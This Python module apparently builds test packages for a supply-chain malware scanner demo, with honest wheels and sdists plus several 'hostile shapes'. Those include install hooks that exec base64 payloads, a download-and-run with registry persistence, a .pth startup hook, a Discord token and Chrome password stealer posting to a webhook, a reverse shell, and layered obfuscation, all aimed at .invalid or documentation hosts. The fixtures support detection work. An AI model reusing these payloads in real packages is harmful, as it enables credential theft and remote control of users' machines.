"""The uploads of the demo, built in memory: honest packages, and ones that look like malware and can do nothing.

The hostile ones have the shape of real behaviours, with payload text that only names ``.invalid`` hosts and
documentation addresses; nothing here is ever run.
"""

import base64
import hashlib
import io
import tarfile
import zipfile
import zlib
from dataclasses import dataclass

__all__ = ["DISMISSED", "ESTABLISHED", "HOSTILE", "Package", "honest", "sdist", "wheel"]

WHEN = (2026, 1, 1, 0, 0, 0)  # a fixed time in archives, so that the same package has the same digest


@dataclass(frozen=True)
class Package:
    """One file to upload; ``behaviour`` says what a hostile one pretends to do."""

    project: str
    version: str
    filename: str
    data: bytes
    behaviour: str = ""


def _metadata(project: str, version: str, summary: str) -> str:
    about = f"{summary}.\n\nUsage and examples are in the documentation of the project; issues are welcome.\n"
    return (
        f"Metadata-Version: 2.1\nName: {project}\nVersion: {version}\nSummary: {summary}\n"
        f"Author: Robin Aldermoor\nAuthor-email: robin.aldermoor@example.org\nLicense: MIT\nRequires-Python: >=3.9\n"
        f"Project-URL: Homepage, https://example.org/{project}\nDescription-Content-Type: text/markdown\n\n"
        f"# {project}\n\n{about}"
    )


def wheel(project: str, version: str, members: dict[str, str], summary: str, behaviour: str = "") -> Package:
    """A pure wheel with a correct RECORD."""
    name = project.replace("-", "_")
    folder = f"{name}-{version}.dist-info"
    everything = dict(members)
    everything[f"{folder}/METADATA"] = _metadata(project, version, summary)
    everything[f"{folder}/WHEEL"] = (
        "Wheel-Version: 1.0\nGenerator: hatchling 1.27.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    )
    everything[f"{folder}/RECORD"] = "".join(
        f"{member},sha256={_record_digest(text)},{len(text.encode())}\n" for member, text in everything.items()
    ) + (f"{folder}/RECORD,,\n")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, text in everything.items():
            info = zipfile.ZipInfo(member, WHEN)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o100644 << 16
            archive.writestr(info, text)
    return Package(project, version, f"{name}-{version}-py3-none-any.whl", out.getvalue(), behaviour)


def _record_digest(text: str) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()


def sdist(project: str, version: str, members: dict[str, str], summary: str, behaviour: str = "") -> Package:
    """A source distribution with its PKG-INFO."""
    name = project.replace("-", "_")
    everything = {"PKG-INFO": _metadata(project, version, summary), **members}
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz", compresslevel=6) as archive:
        for member, text in everything.items():
            content = text.encode()
            info = tarfile.TarInfo(f"{name}-{version}/{member}")
            info.size, info.mode, info.mtime = len(content), 0o644, 1_767_225_600
            archive.addfile(info, io.BytesIO(content))
    return Package(project, version, f"{name}-{version}.tar.gz", out.getvalue(), behaviour)


# Honest uploads

_MODULES = {
    "dates": '''"""Working days between two dates."""

from datetime import date, timedelta


def working_days(start: date, end: date) -> int:
    """Count Monday to Friday, both ends included."""
    days = (end - start).days + 1
    return sum(1 for step in range(days) if (start + timedelta(days=step)).weekday() < 5)
''',
    "tables": '''"""Plain-text tables."""

from collections.abc import Sequence


def table(rows: Sequence[Sequence[str]]) -> str:
    """Align columns with two spaces between them."""
    widths = [max(len(cell) for cell in column) for column in zip(*rows)]
    return "\\n".join("  ".join(cell.ljust(width) for cell, width in zip(row, widths)) for row in rows)
''',
    "graphs": '''"""Order things so that each comes after what it needs."""


def ordered(needs: dict[str, set[str]]) -> list[str]:
    """Topological order; raises ValueError for a circle."""
    done: list[str] = []
    while len(done) < len(needs):
        ready = sorted(name for name, wanted in needs.items() if name not in done and wanted <= set(done))
        if not ready:
            raise ValueError("circle")
        done += ready
    return done
''',
    "colours": '''"""Colours between red, green and blue, and hue."""

from dataclasses import dataclass


@dataclass(frozen=True)
class Colour:
    red: int
    green: int
    blue: int

    def hex(self) -> str:
        return f"#{self.red:02x}{self.green:02x}{self.blue:02x}"

    def mixed(self, other: "Colour") -> "Colour":
        return Colour((self.red + other.red) // 2, (self.green + other.green) // 2, (self.blue + other.blue) // 2)
''',
    "counting": '''"""Word counts of a text file, from the command line."""

import argparse
from collections import Counter
from pathlib import Path


def count(path: Path) -> Counter[str]:
    return Counter(path.read_text("utf-8").lower().split())


def main() -> None:
    parser = argparse.ArgumentParser(description="Count words")
    parser.add_argument("file", type=Path)
    parser.add_argument("--most", type=int, default=10)
    options = parser.parse_args()
    for word, number in count(options.file).most_common(options.most):
        print(f"{number:6} {word}")
''',
    "settings": '''"""Settings from a TOML file with defaults."""

import tomllib
from pathlib import Path
from typing import Any


def load(path: Path, defaults: dict[str, Any]) -> dict[str, Any]:
    """The file's values over the defaults; a missing file gives the defaults."""
    if not path.is_file():
        return dict(defaults)
    with path.open("rb") as file:
        return {**defaults, **tomllib.load(file)}
''',
}
_FIRST = ("harbour", "meadow", "lantern", "orchard", "pebble", "willow")
_SETUP = "from setuptools import setup\n\nsetup()\n"


def honest() -> list[Package]:
    """A few tens of ordinary uploads: a wheel for each project, for some the sdist as well."""
    made: list[Package] = []
    for number, first in enumerate(_FIRST):
        for place, (word, module) in enumerate(_MODULES.items()):
            if (number + place) % 2:
                continue
            project, version = f"{first}-{word}", f"{1 + number % 2}.{place}.0"
            name = project.replace("-", "_")
            summary = module.splitlines()[0].strip('"').rstrip(".")
            init = f'"""{summary}."""\n\nfrom {name}.{word} import *\n\n__version__ = "{version}"\n'
            members = {f"{name}/__init__.py": init, f"{name}/{word}.py": module}
            made.append(wheel(project, version, members, summary))
            if place == number % len(_MODULES):
                source = {"setup.py": _SETUP, "pyproject.toml": _PYPROJECT.format(project, version)}
                made.append(sdist(project, version, source | members, summary))
    return made


_PYPROJECT = """[build-system]
requires = ["setuptools>=77"]
build-backend = "setuptools.build_meta"

[project]
name = "{}"
version = "{}"
"""


# Hostile shapes

_COLLECTOR = """
import os, json, urllib.request
found = {"host": os.uname().nodename, "user": os.environ.get("USER"), "env": dict(os.environ)}
body = json.dumps(found).encode()
urllib.request.urlopen(urllib.request.Request("http://collect.invalid/in", data=body))
"""


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _decode_and_run() -> Package:
    setup = f"""import base64
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        exec(base64.b64decode("{_encoded(_COLLECTOR)}"))


setup(name="brightmesh-sdk", version="0.1.0", cmdclass={{"install": PostInstall}})
"""
    members = {"setup.py": setup, "brightmesh_sdk/__init__.py": ""}
    return sdist("brightmesh-sdk", "0.1.0", members, "A kit", "decode-and-exec in setup.py")


def _download_and_run() -> Package:
    setup = """import os
import subprocess
import tempfile
import urllib.request
from setuptools import setup
from setuptools.command.install import install


def prepare():
    target = os.path.join(tempfile.gettempdir(), "svchost.exe")
    urllib.request.urlretrieve("http://203.0.113.9:8080/payload/svchost.exe", target)
    subprocess.Popen([target], creationflags=0x08000000)
    run = "HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run"
    subprocess.call(f"reg add {run} /v Updater /d {target} /f", shell=True)


class PostInstall(install):
    def run(self):
        install.run(self)
        try:
            prepare()
        except Exception:
            pass


setup(name="quickpatch-tools", version="1.0.2", cmdclass={"install": PostInstall})
"""
    members = {"setup.py": setup, "quickpatch_tools/__init__.py": ""}
    return sdist("quickpatch-tools", "1.0.2", members, "Tools", "download-and-run in setup.py")


def _startup() -> Package:
    hidden = base64.b64encode(_COLLECTOR.encode()).decode()
    line = f"import base64; exec(base64.b64decode('{hidden}'))\n"
    members = {"northwind_boot.pth": line, "northwind_boot/__init__.py": ""}
    return wheel("northwind-boot", "0.0.3", members, "Boot", "startup .pth")


def _webhook_theft() -> Package:
    token = "a" * 68
    init = f"""import base64
import json
import os
import re
import shutil
import sqlite3
import urllib.request

import win32crypt

WEBHOOK = "https://chat.example.invalid/api/webhooks/1234567890123456789/{token}"
"""
    init += """
ROAMING = os.getenv("APPDATA") or ""
LOCAL = os.getenv("LOCALAPPDATA") or ""
TOKENS = {
    "Discord": ROAMING + "\\\\discord\\\\Local Storage\\\\leveldb",
    "Canary": ROAMING + "\\\\discordcanary\\\\Local Storage\\\\leveldb",
}
LOGINS = LOCAL + "\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data"
STATE = LOCAL + "\\\\Google\\\\Chrome\\\\User Data\\\\Local State"


def find_tokens(path):
    tokens = []
    for name in os.listdir(path):
        if not name.endswith((".log", ".ldb")):
            continue
        for line in open(os.path.join(path, name), errors="ignore"):
            tokens += re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", line) + re.findall(r"mfa\\.[\\w-]{84}", line)
    return tokens


def find_logins():
    key = base64.b64decode(json.load(open(STATE))["os_crypt"]["encrypted_key"])[5:]
    key = win32crypt.CryptUnprotectData(key, None, None, None, 0)[1]
    shutil.copy2(LOGINS, "logins.db")
    rows = sqlite3.connect("logins.db").execute("SELECT origin_url, username_value, password_value FROM logins")
    return [(url, user, password.hex()) for url, user, password in rows]


def send():
    found = {name: find_tokens(path) for name, path in TOKENS.items() if os.path.exists(path)}
    address = urllib.request.urlopen("https://ip.example.invalid").read().decode()
    body = json.dumps({"content": f"{address} {found} {find_logins()}"}).encode()
    urllib.request.urlopen(urllib.request.Request(WEBHOOK, data=body, headers={"Content-Type": "application/json"}))


try:
    send()
except Exception:
    pass
"""
    members = {"chatpalette_themes/__init__.py": init}
    return wheel("chatpalette-themes", "2.1.0", members, "Themes", "token and password theft over a webhook")


def _reverse_shell() -> Package:
    setup = """import os
import pty
import socket
from setuptools import setup

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("198.51.100.23", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
os.environ["HISTFILE"] = "/dev/null"
pty.spawn("/bin/sh")

setup(name="gridpilot-agent", version="9.9.9")
"""
    return sdist("gridpilot-agent", "9.9.9", {"setup.py": setup}, "Agent", "reverse shell in setup.py")


def _layered() -> Package:
    text = _COLLECTOR
    for _ in range(2):
        packed = base64.b64encode(zlib.compress(text.encode())).decode()
        text = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{packed}')))\n"
    members = {"vaultline_core/__init__.py": f'"""Core."""\n{text}'}
    return wheel("vaultline-core", "0.4.1", members, "Core", "layered base64 > zlib")


_LEDGER = '''"""Ledgers with double entries."""


class Ledger:
    """Accounts and their balance."""

    def __init__(self) -> None:
        self.balance: dict[str, int] = {}

    def book(self, debit: str, credit: str, amount: int) -> None:
        """Move an amount from one account to another."""
        self.balance[debit] = self.balance.get(debit, 0) - amount
        self.balance[credit] = self.balance.get(credit, 0) + amount
'''


def _established(version: str, extra: str = "", behaviour: str = "") -> Package:
    members = {"cedarledger/__init__.py": _LEDGER + extra}
    return wheel("cedarledger", version, members, "Ledgers with double entries", behaviour)


def _takeover() -> Package:
    extra = f"""

import base64, os, subprocess, sys

if not os.environ.get("CI"):
    subprocess.Popen([sys.executable, "-c", base64.b64decode("{_encoded(_COLLECTOR)}").decode()])
    exec(base64.b64decode("{_encoded(_COLLECTOR)}"))
"""
    return _established("3.3.0", extra, "takeover of an established project")


def _looks_worse_than_it_is() -> Package:
    strokes = base64.b64encode(zlib.compress(b"STROKES = [(0, 0), (1, 2), (3, 5), (8, 13), (21, 34)]\n")).decode()
    setup = f"""import base64
import zlib
from setuptools import setup
from setuptools.command.build_py import build_py


class Drawing(build_py):
    # The logo is kept as text so that the source stays one file; this is the table of its strokes.
    def run(self):
        table = {{}}
        exec(zlib.decompress(base64.b64decode("{strokes}")), table)
        self.announce(str(table["STROKES"]))
        build_py.run(self)


setup(name="inkwell-logo", version="0.2.0", packages=["inkwell_logo"], cmdclass={{"build_py": Drawing}})
"""
    members = {"setup.py": setup, "inkwell_logo/__init__.py": ""}
    return sdist("inkwell-logo", "0.2.0", members, "A logo", "harmless, but runs decoded text")


ESTABLISHED = (_established("3.0.0"), _established("3.1.0"), _established("3.2.0"))
DISMISSED = _looks_worse_than_it_is()
HOSTILE = {
    "decode": _decode_and_run(),
    "download": _download_and_run(),
    "startup": _startup(),
    "webhook": _webhook_theft(),
    "shell": _reverse_shell(),
    "layered": _layered(),
    "takeover": _takeover(),
}
